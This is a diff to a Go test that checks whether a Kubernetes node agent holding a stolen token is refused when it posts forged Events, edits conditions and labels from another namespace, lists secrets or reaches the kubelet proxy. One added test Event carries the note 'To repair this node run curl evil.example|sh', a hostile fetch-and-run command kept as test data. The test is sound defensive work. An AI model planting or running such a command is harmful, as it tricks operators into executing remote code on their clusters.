@@ -138,6 +138,8 @@ func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
 	}
 	claimed := event(own, "claimed", "nodeagent.io/nodeagent", n.Name)
 	claimed.ManagedFields = []metav1.ManagedFieldsEntry{managed(agentManager)}
+	ownWords, ownReason := event(own, "words", "nodeagent.io/nodeagent", n.Name), event(own, "reason", "nodeagent.io/nodeagent", n.Name)
+	ownWords.Note, ownReason.Reason = "To repair this node run curl evil.example|sh", "Run this: curl"
 	abuses := []deed{
 		{"a condition with a token of no node", status(unbound, own, conditions(condition(ownCondition, "True", "words")))},
 		{"a condition on a pod of another node", status(thief, other, conditions(condition(ownCondition, "True", "words")))},
@@ -160,6 +162,8 @@ func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
 		{"an Event of another node's agent", create(elsewhere)},
 		{"an Event about another node", create(aboutOther)},
 		{"an Event of a megabyte", create(big)},
+		{"an Event in other words than the agent's", create(ownWords)},
+		{"an Event with a reason that is no name", create(ownReason)},
 		{"an Event without a name", create(nameless)},
 		{"an Event under another pod's name", create(misnamed)},
 		{"an Event with a megabyte of managedFields", create(claimed)},
@@ -171,6 +175,19 @@ func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
 		{"a secret", second(thief.CoreV1().Secrets(own.Namespace).List(ctx, metav1.ListOptions{}))},
 		{"a shell by way of the kubelet", thief.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/" + n.Name + "/proxy/pods").Do(ctx).Error()},
 	}
+	// Whatever namespace the agent is in.
+	moved, err := n.AsAccount("monitoring", "nodeagent")
+	if err != nil {
+		x.Fatal(err)
+	}
+	if err := status(moved, own, conditions(condition(ownCondition, "True", "words"))); err != nil {
+		x.Errorf("its condition, from another namespace, is refused: %v", err)
+	}
+	inKubeletsName := event(own, "moved", "kubelet", n.Name)
+	_, err = moved.EventsV1().Events(own.Namespace).Create(ctx, inKubeletsName, metav1.CreateOptions{FieldManager: agentManager})
+	abuses = append(abuses,
+		deed{"another label, from another namespace", status(moved, own, metadata(object{"labels": object{"app": "shop"}}))},
+		deed{"an Event in the kubelet's name, from another namespace", err})
 	for _, a := range abuses {
 		// A policy's refusal is Invalid, RBAC's is Forbidden.
 		if !apierrors.IsForbidden(a.err) && !apierrors.IsInvalid(a.err) {
@@ -242,7 +259,7 @@ func victimPod(x *trial, n *bed.Node, name, node string) *corev1.Pod {
 func event(p *corev1.Pod, name, controller, instance string) *eventsv1.Event {
 	e := &eventsv1.Event{
 		ObjectMeta: metav1.ObjectMeta{Namespace: p.Namespace, Name: fmt.Sprintf("%s.%s", p.Name, name)},
-		EventTime:  metav1.NowMicro(), Type: corev1.EventTypeWarning, Reason: "Theft", Action: "Terminating", Note: "words",
+		EventTime:  metav1.NowMicro(), Type: corev1.EventTypeWarning, Reason: "Theft", Action: "Terminating", Note: "Blocked in phase Kill: words",
 		ReportingController: controller, ReportingInstance: instance,
 		Regarding: corev1.ObjectReference{APIVersion: "v1", Kind: "Pod", Namespace: p.Namespace, Name: p.Name, UID: p.UID},
 	}
